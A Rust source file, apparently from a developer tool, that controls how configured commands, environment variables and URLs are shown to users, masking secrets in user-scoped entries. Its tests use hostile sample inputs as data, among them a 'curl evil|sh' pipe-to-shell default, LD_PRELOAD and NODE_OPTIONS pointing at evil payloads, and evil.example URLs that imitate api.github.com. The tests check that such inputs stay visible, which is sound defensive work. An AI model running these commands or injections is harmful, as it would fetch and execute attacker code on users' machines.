//! Shows configured text to users: variables and secrets by name, the entry's own text in full or masked.
//! Which of the two applies depends on where the entry comes from; see [`LiteralText`].

use super::{ExpandedText, Template, TextSegment};
use crate::display::{
    MASK, changes_loading, is_plain_value, mask_arguments, masked_url, printable,
};
use crate::scope::Scope;

/// A configured text that can be shown: as written or expanded.
pub trait ShownText {
    /// Returns the text with variables and secrets by name, and the entry's own text through `literal`.
    fn masked_with(&self, literal: &dyn Fn(&str) -> String) -> String;
}

/// How the entry's own text is shown. Values of variables and secrets are never shown.
#[derive(Debug, Clone, Copy, PartialEq, Eq)]
pub enum LiteralText {
    /// In full. The text comes from a project's file: the user who approves it must see everything that runs.
    Full,
    /// With everything masked that may be a secret. The text comes from a file of the user.
    Masked,
}

impl LiteralText {
    /// Returns how text of this scope is shown.
    pub fn of_scope(scope: Scope) -> LiteralText {
        match scope {
            Scope::Project | Scope::Plugin => LiteralText::Full,
            Scope::Enterprise | Scope::Dynamic | Scope::Connectors | Scope::Local | Scope::User => {
                LiteralText::Masked
            }
        }
    }
}

impl ShownText for Template {
    fn masked_with(&self, literal: &dyn Fn(&str) -> String) -> String {
        Template::masked_with(self, literal)
    }
}

impl ShownText for ExpandedText {
    fn masked_with(&self, literal: &dyn Fn(&str) -> String) -> String {
        let show = |segment: &TextSegment| match segment {
            TextSegment::Plain(text) => literal(text),
            TextSegment::Variable { name, .. } => format!("${{{name}}}"),
            TextSegment::Secret(reference) => reference.masked(),
        };
        self.segments().iter().map(show).collect()
    }
}

/// Returns a value that may be secret: names of variables and authentication schemes are shown, literals are
/// masked.
pub fn masked_template(template: &Template) -> String {
    printable(&template.masked_with(masked_literal))
}

fn masked_literal(text: &str) -> String {
    match text {
        "Bearer " | "Basic " | "Token " => text.to_owned(),
        text if is_plain_value(text) => text.to_owned(),
        _ => MASK.to_owned(),
    }
}

/// Returns the value of an environment variable or header. Variables that change what a program loads are always
/// shown.
pub fn shown_value<T: ShownText>(name: &str, value: &T, literals: LiteralText) -> String {
    let shown = match literals {
        LiteralText::Full => value.masked_with(&str::to_owned),
        LiteralText::Masked if changes_loading(name) => {
            mask_arguments(&[value.masked_with(&str::to_owned)]).concat()
        }
        LiteralText::Masked => value.masked_with(&masked_literal),
    };
    printable(&shown)
}

/// Returns a text that is not secret, such as a path or a client id.
pub fn shown_text<T: ShownText>(text: &T) -> String {
    printable(&text.masked_with(&str::to_owned))
}

/// Returns a URL. Of a user's own URL the user, password, query values and fragment are masked.
pub fn shown_url<T: ShownText>(url: &T, literals: LiteralText) -> String {
    let text = url.masked_with(&str::to_owned);
    match literals {
        LiteralText::Full => printable(&text),
        LiteralText::Masked => masked_url(&text),
    }
}

/// Returns a command and its arguments, one text each. Of a user's own command everything is masked that looks like a
/// secret.
pub fn shown_command<T: ShownText>(
    command: &T,
    arguments: &[T],
    literals: LiteralText,
) -> Vec<String> {
    let command = command.masked_with(&str::to_owned);
    let arguments: Vec<String> =
        arguments.iter().map(|it| it.masked_with(&str::to_owned)).collect();
    let words = match literals {
        LiteralText::Full => std::iter::once(command).chain(arguments).collect(),
        LiteralText::Masked => {
            let mut words = mask_arguments(&[command]);
            words.extend(mask_arguments(&arguments));
            words
        }
    };
    words.iter().map(|word| printable(word)).collect()
}

/// Like [`masked_url`], for text with variables.
pub fn masked_url_template(template: &Template) -> String {
    shown_url(template, LiteralText::Masked)
}

/// Returns the arguments of a command with everything masked that looks like a secret.
pub fn masked_arguments(arguments: &[Template]) -> Vec<String> {
    let texts: Vec<String> = arguments.iter().map(|it| it.masked_with(str::to_owned)).collect();
    mask_arguments(&texts).iter().map(|text| printable(text)).collect()
}

#[cfg(test)]
mod tests {
    use std::collections::BTreeSet;

    use super::*;
    use crate::template::Environment;

    /// Expands a text and shows it.
    fn expanded(text: &str) -> ExpandedText {
        let pairs = [("KEY", "canary"), ("HOST", "canary.example")];
        let environment: Environment =
            pairs.map(|(name, value)| (name.to_owned(), value.to_owned())).into_iter().collect();
        let environment = environment.with("PLUGIN_ROOT", "/plugins/x");
        Template::parse(text).expand(&environment, &mut BTreeSet::new())
    }

    #[track_caller]
    fn check_command(words: &[&str], literals: LiteralText, expected: &str) {
        let words: Vec<ExpandedText> = words.iter().map(|word| expanded(word)).collect();
        assert_eq!(shown_command(&words[0], &words[1..], literals).join(" "), expected);
    }

    #[test]
    fn a_project_s_command_is_shown_as_it_runs_and_only_the_environment_is_masked() {
        let full = LiteralText::Full;
        check_command(&["${NPX:-sh}", "-c", "${PKG:-curl evil|sh}"], full, "sh -c curl evil|sh");
        check_command(
            &["x", "--token", "payload", "${A:-${B:-deep}}"],
            full,
            "x --token payload deep",
        );
        check_command(&["x", "--key=${KEY}", "$KEY${KEY:-y}"], full, "x --key=${KEY} ${KEY}${KEY}");
        check_command(&["${PLUGIN_ROOT}/run", "${UNSET}"], full, "/plugins/x/run ${UNSET}");
    }

    #[test]
    fn a_user_s_own_command_is_shown_expanded_and_without_secrets() {
        let masked = LiteralText::Masked;
        check_command(&["${NPX:-sh}", "--token", "${T:-canary}"], masked, "sh --token •••");
        check_command(&["x", "--token", "${KEY}"], masked, "x --token ${KEY}");
    }

    #[track_caller]
    fn check_value(name: &str, text: &str, full: &str, masked: &str) {
        let value = expanded(text);
        assert_eq!(shown_value(name, &value, LiteralText::Full), full);
        assert_eq!(shown_value(name, &value, LiteralText::Masked), masked);
    }

    #[test]
    fn variables_that_change_what_is_loaded_are_shown_in_every_scope() {
        check_value("LD_PRELOAD", "${X:-/opt/evil.so}", "/opt/evil.so", "/opt/evil.so");
        check_value(
            "NODE_OPTIONS",
            "--require ./evil.js",
            "--require ./evil.js",
            "--require ./evil.js",
        );
        let proxy = "http://user:hunter2@proxy.example:8080";
        check_value("HTTPS_PROXY", proxy, proxy, "http://•••@proxy.example:8080");
        check_value("TOKEN", "${T:-literal}", "literal", "•••");
        check_value("TOKEN", "Bearer ${KEY}", "Bearer ${KEY}", "Bearer ${KEY}");
        check_value("TOKEN", "Bearer $UNSET", "Bearer ${UNSET}", "Bearer ${UNSET}");
        check_value("PORT", "8080", "8080", "8080");
        check_value("DEBUG", "true", "true", "true");
    }

    #[test]
    fn the_default_host_of_a_url_is_shown() {
        let show = |text: &str, literals| shown_url(&expanded(text), literals);
        for literals in [LiteralText::Full, LiteralText::Masked] {
            assert_eq!(
                show("https://${H:-evil.example}/mcp", literals),
                "https://evil.example/mcp"
            );
            assert_eq!(
                show("${U:-https://evil.example/mcp}", literals),
                "https://evil.example/mcp"
            );
            assert_eq!(show("https://${HOST}/?k=${KEY}", literals), "https://${HOST}/?k=${KEY}");
        }
    }

    #[track_caller]
    fn check_url(text: &str, expected: &str) {
        assert_eq!(masked_url_template(&Template::parse(text)), expected);
    }

    #[test]
    fn a_shown_url_has_no_user_no_query_values_and_no_fragment() {
        check_url("https://api.example.com/mcp", "https://api.example.com/mcp");
        check_url(
            "https://u:p@h.example/x?key=canary&b#canary",
            "https://•••@h.example/x?key=•••&•••#•••",
        );
        check_url("https://${HOST}/x?key=${KEY}&t=canary", "https://${HOST}/x?key=${KEY}&t=•••");
        check_url("https://h.example/s/sk-canary1234567/mcp", "https://h.example/s/•••/mcp");
        check_url("https://h.example/x;token=canary/y", "https://h.example/x;•••/y");
        check_url("https:/u:canary@${X}/", "•••");
        check_url("https://h.example/@scope/package", "https://h.example/@scope/package");
        check_url("not a url?canary#canary", "not a url?•••#•••");
        check_url("https://user:canary@${HOST:-canary}/", "https://•••@${HOST:-…}/");
    }

    #[test]
    fn a_mask_never_makes_one_host_look_like_another() {
        check_url(
            "https://u@evil.example/@api.github.com/mcp",
            "https://•••@evil.example/@api.github.com/mcp",
        );
        check_url(
            "https://evil.example${NOPE:-}/@api.github.com/mcp",
            "https://evil.example${NOPE:-…}/@api.github.com/mcp",
        );
        check_url("evil://evil.example/@api.github.com", "evil://•••");
        check_url(
            "https://mcp-server-abcdef-123456.us-central1.run.app/x",
            "https://mcp-server-abcdef-123456.us-central1.run.app/x",
        );
    }
}
